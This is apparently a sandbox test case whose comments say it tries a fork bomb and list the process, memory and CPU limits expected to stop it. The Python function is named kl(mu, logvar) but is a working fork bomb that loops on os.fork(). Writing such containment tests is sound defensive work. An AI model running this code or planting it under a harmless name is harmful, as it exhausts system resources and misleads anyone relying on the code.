# tries: a fork bomb
# kl: human or failed
# says: the code (started more than 64 processes and threads|used more than 1500 MiB of memory|used up its 2 s of CPU time; a person decides why)
def kl(mu, logvar):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
